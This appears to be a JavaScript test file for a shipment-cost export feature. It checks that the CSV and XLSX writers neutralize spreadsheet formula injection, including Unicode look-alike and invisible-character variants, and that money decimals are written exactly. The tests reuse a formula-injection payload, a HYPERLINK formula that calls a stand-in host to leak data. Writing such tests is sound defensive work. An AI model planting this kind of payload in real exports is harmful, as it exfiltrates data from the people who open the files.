/**
 * Exports never hand a spreadsheet a formula: OWASP's list of leading characters, and their
 * Unicode look-alikes, also behind invisible characters. Pure: the cell rules and both writers'
 * rendering of a cell. And exported decimals are exact or refused.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { decimalText, neutralizeFormula, toCells } from '../../src/export/cells.js';
import { csvLine } from '../../src/export/csv.js';
import { xlsxCell } from '../../src/export/xlsx.js';

const PAYLOAD = 'HYPERLINK("http://x.test/?leak","click")';

describe('exports neutralize formulas', () => {
  test("formula injection: OWASP's leading characters = + - @ tab CR get a ' in front", () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
      assert.equal(neutralizeFormula(`${lead}${PAYLOAD}`), `'${lead}${PAYLOAD}`, JSON.stringify(lead));
    }
  });

  test("formula injection: full-width, small and super/subscript look-alikes of = + - @ get a ' in front", () => {
    // ＝ ＋ － ＠ (full-width), ﹦ ﹢ ﹣ ﹫ (small forms), ⁼ ⁺ ₌ ₊ (super/subscript), − (minus sign)
    for (const lead of ['\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFE66', '\uFE62', '\uFE63', '\uFE6B', '\u207C', '\u207A', '\u208C', '\u208A', '\u2212']) {
      assert.equal(neutralizeFormula(`${lead}${PAYLOAD}`), `'${lead}${PAYLOAD}`, `U+${lead.codePointAt(0)?.toString(16).toUpperCase()}`);
    }
  });

  test("formula injection: a sign behind zero-width, BOM, word-joiner, direction marks or spaces gets a ' in front", () => {
    for (const hide of ['\u200B', '\uFEFF', '\u2060', '\u200C', '\u200D', '\u200E', '\u00AD', ' ', '\u00A0', '\u3000', '\n', '\u200B\uFEFF \u2060']) {
      for (const sign of ['=', '\uFF1D', '@', '+', '-']) {
        const text = `${hide}${sign}${PAYLOAD}`;
        assert.equal(neutralizeFormula(text), `'${text}`, JSON.stringify(text));
      }
    }
  });

  test('formula injection: ordinary text, identifiers and an empty string are left alone', () => {
    for (const text of ['', 'Fuel Surcharge', '000083475766', '1ZHHE52X0329440223', ' Zone 4', '\u200BFuel', 'Zuschlag für Überlänge', 'ＡＢＣ', '™ fee', 'a=b', 'x-1', '\u200B', '  ']) {
      assert.equal(neutralizeFormula(text), text, JSON.stringify(text));
    }
  });

  test('formula injection: a full-width = in a text column is written neutralized by the CSV and XLSX writers', () => {
    const description = `\uFF1D${PAYLOAD}`;
    const cells = toCells('shipment_costs', [{ name: 'service', kind: 'text' }, { name: 'total', kind: 'money' }], { service: description, total: '-14.58', currency: 'EUR' });
    assert.equal(csvLine(cells), `"'${description.replaceAll('"', '""')}",-14.58\r\n`, 'a credit stays a number');
    assert.deepEqual(xlsxCell(cells[0] ?? null), { t: 's', v: `'${description}` });
  });
});

describe('exported decimals are exact', () => {
  test('money is exact: decimal text near 2^53 minor units is written digit for digit', () => {
    assert.equal(decimalText('90071992547409.90', 2, 'v.amount'), '90071992547409.90');
    assert.equal(decimalText('-90071992547409.91', 2, 'v.amount'), '-90071992547409.91');
    assert.equal(decimalText('92233720368547758.07', 2, 'v.amount'), '92233720368547758.07', 'a 64-bit sum as PostgreSQL numeric');
  });

  test('money is exact: a float decimal is written only where doubles are closer than its last digit, else refused', () => {
    assert.equal(decimalText(12345678901.23, 2, 'v.amount'), '12345678901.23');
    assert.equal(decimalText(-45035996273704.95, 2, 'v.amount'), '-45035996273704.95');
    // 90071992547409.90 as a double is 90071992547409.90625, which toFixed(2) prints as ...409.91
    assert.equal((90071992547409.9).toFixed(2), '90071992547409.91', 'the rounding this guards against');
    assert.throws(() => decimalText(90071992547409.9, 2, 'v.amount'), /v\.amount: 90071992547409\.9 is not a decimal this export can write exactly/);
    assert.throws(() => decimalText(5e12, 3, 'v.amount'), /not a decimal this export can write exactly/);
    assert.equal(decimalText(4e12, 3, 'v.amount'), '4000000000000.000');
  });
});
